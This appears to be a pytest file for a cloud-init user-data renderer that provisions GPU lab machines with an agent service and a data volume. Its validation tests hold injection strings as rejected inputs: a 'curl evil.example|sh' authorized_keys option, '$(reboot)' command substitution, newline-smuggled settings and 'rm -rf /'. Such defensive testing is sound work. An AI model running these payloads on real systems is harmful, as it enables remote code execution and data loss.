from __future__ import annotations

import pytest

from labgpu.providers.cloudinit import AGENT_ENV_PATH, parse_user_data, render_user_data
from labgpu.providers.tests.ssh_fixtures import ED25519, RSA

yaml = pytest.importorskip("yaml")

KEY = ED25519


def render(**overrides):
    options = {"api_url": "https://labgpu.example.org", "bootstrap_token": "bt_0123456789abcdef"}
    options.update(overrides)
    return render_user_data(**options)


def test_user_data_is_cloud_config_that_installs_and_starts_the_agent():
    text = render(ssh_authorized_keys=[KEY])
    doc = yaml.safe_load(text)

    assert text.startswith("#cloud-config\n")
    files = {f["path"]: f for f in doc["write_files"]}
    assert files[AGENT_ENV_PATH]["permissions"] == "0600"
    unit = files["/etc/systemd/system/labgpu-agent.service"]["content"]
    assert "labgpu-agent run --api ${LABGPU_API} --token ${LABGPU_BOOTSTRAP_TOKEN}" in unit
    assert f"EnvironmentFile={AGENT_ENV_PATH}" in unit
    commands = [" ".join(map(str, c)) for c in doc["runcmd"]]
    assert any("pip install --upgrade labgpu-agent" in c for c in commands)
    assert any("enable --now labgpu-agent.service" in c for c in commands)
    assert doc["ssh_authorized_keys"] == [KEY]
    assert len(text.encode()) <= 64 * 1024


def test_parse_user_data_reads_back_the_agent_settings():
    assert parse_user_data(render()) == {
        "LABGPU_API": "https://labgpu.example.org",
        "LABGPU_BOOTSTRAP_TOKEN": "bt_0123456789abcdef",
    }
    with_profile = parse_user_data(render(agent_profile="faulty-ecc"))
    assert with_profile["LABGPU_FIXTURE_PROFILE"] == "faulty-ecc"
    assert "--fixture-profile ${LABGPU_FIXTURE_PROFILE}" in render(agent_profile="faulty-ecc")


def test_the_agent_runs_at_the_servers_time_scale_only_when_it_is_not_one():
    assert "LABGPU_TIME_SCALE" not in parse_user_data(render(time_scale=1.0))
    assert parse_user_data(render(time_scale=0.1))["LABGPU_TIME_SCALE"] == "0.1"
    for bad in (0.0, -1.0, float("inf"), float("nan")):
        with pytest.raises(ValueError, match="time_scale"):
            render(time_scale=bad)


def test_parse_user_data_of_foreign_user_data_is_empty():
    assert parse_user_data("#cloud-config\nruncmd:\n  - touch /test.txt\n") == {}
    assert parse_user_data(None) == {}


@pytest.mark.parametrize(
    "overrides",
    [
        {"bootstrap_token": "abc def 123456"},
        {"bootstrap_token": "token$(reboot)"},
        {"bootstrap_token": "tok\nLABGPU_API=http://evil"},
        {"api_url": "https://x.example/\nLABGPU_API=http://evil"},
        {"api_url": "ftp://x.example"},
        {"api_url": "https://x.example/'quote"},
        {"agent_profile": "healthy mi300x"},
        {"ssh_authorized_keys": ["not a key"]},
    ],
)
def test_values_that_could_escape_their_line_are_refused(overrides):
    with pytest.raises(ValueError):
        render(**overrides)


@pytest.mark.security
@pytest.mark.parametrize(
    "key",
    [
        f"{ED25519}\n{RSA}",  # a second authorized_keys line
        f"{ED25519}\r{RSA}",
        f"{ED25519}\u2028{RSA}",
        f'command="curl evil.example|sh" {ED25519}',
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTests alice@lab",
    ],
    ids=["newline", "cr", "line-separator", "options", "fake-body"],
)
def test_the_writer_refuses_anything_but_one_real_key_per_entry(key):
    """Issue 22 item 8: a key stored before the API parsed keys still cannot add a line."""
    with pytest.raises(ValueError, match="not one OpenSSH public key"):
        render(ssh_authorized_keys=[ED25519, key])


@pytest.mark.security
def test_each_key_is_written_as_the_line_rebuilt_from_its_parts():
    doc = yaml.safe_load(render(ssh_authorized_keys=[f"  {RSA}  ", ED25519]))

    assert doc["ssh_authorized_keys"] == [RSA, ED25519]


def test_user_data_over_64_kib_is_refused():
    many_keys = [f"{RSA[: -len('bob@workstation')]}key{i}" for i in range(400)]
    with pytest.raises(ValueError, match="64 KiB"):
        render(ssh_authorized_keys=many_keys)


def test_without_a_volume_nothing_is_mounted():
    doc = yaml.safe_load(render())
    assert "/etc/systemd/system/labgpu-data.service" not in {f["path"] for f in doc["write_files"]}


def test_the_data_volume_is_mounted_at_data_and_unmounted_on_shutdown():
    doc = yaml.safe_load(render(data_volume="labgpu-u7-tor1"))
    files = {f["path"]: f["content"] for f in doc["write_files"]}
    script = files["/usr/local/sbin/labgpu-data"]
    unit = files["/etc/systemd/system/labgpu-data.service"]

    assert "DEV=/dev/disk/by-id/scsi-0DO_Volume_labgpu-u7-tor1" in script
    assert "Before=labgpu-agent.service" in unit
    assert "ExecStop=/bin/sh -c 'sync; umount /data" in unit
    commands = [" ".join(map(str, c)) for c in doc["runcmd"]]
    assert commands.index("systemctl enable --now labgpu-data.service") < commands.index(
        "systemctl enable --now labgpu-agent.service"
    )
    with pytest.raises(ValueError):
        render(data_volume="Bad Name; rm -rf /")


@pytest.mark.parametrize(
    ("blkid_rc", "formats", "script_rc"),
    [(2, True, 0), (0, False, 0), (4, False, 1)],
    ids=["new-volume-is-formatted", "existing-filesystem-is-kept", "probe-error-stops"],
)
def test_the_mount_script_formats_only_a_volume_without_a_filesystem(
    tmp_path, blkid_rc, formats, script_rc
):
    """Runs the real script with stub tools: `blkid -p` exits 2 only when no signature exists."""
    import subprocess

    doc = yaml.safe_load(render(data_volume="labgpu-u7-tor1"))
    script = {f["path"]: f["content"] for f in doc["write_files"]}["/usr/local/sbin/labgpu-data"]
    device, mount_dir, bin_dir, log = (
        tmp_path / "dev",
        tmp_path / "data",
        tmp_path / "bin",
        tmp_path / "log",
    )
    device.write_text("")
    bin_dir.mkdir()
    script = (
        script.replace("/dev/disk/by-id/scsi-0DO_Volume_labgpu-u7-tor1", str(device))
        .replace('-b "$DEV"', '-e "$DEV"')
        .replace("/data", str(mount_dir))
    )
    stubs = {
        "blkid": f"exit {blkid_rc}",
        "mkfs.ext4": f'echo mkfs "$@" >> {log}',
        "mountpoint": "exit 1",
        "mount": f'echo mount "$@" >> {log}',
    }
    for name, body in stubs.items():
        (bin_dir / name).write_text(f"#!/bin/sh\n{body}\n")
        (bin_dir / name).chmod(0o755)
    (tmp_path / "labgpu-data").write_text(script)

    done = subprocess.run(
        ["sh", str(tmp_path / "labgpu-data")],
        env={"PATH": f"{bin_dir}:/usr/bin:/bin"},
        capture_output=True,
        text=True,
        check=False,
    )

    calls = log.read_text() if log.exists() else ""
    assert done.returncode == script_rc, done.stderr
    assert ("mkfs" in calls) is formats
    assert ("mount" in calls.replace("mkfs", "")) is (script_rc == 0)
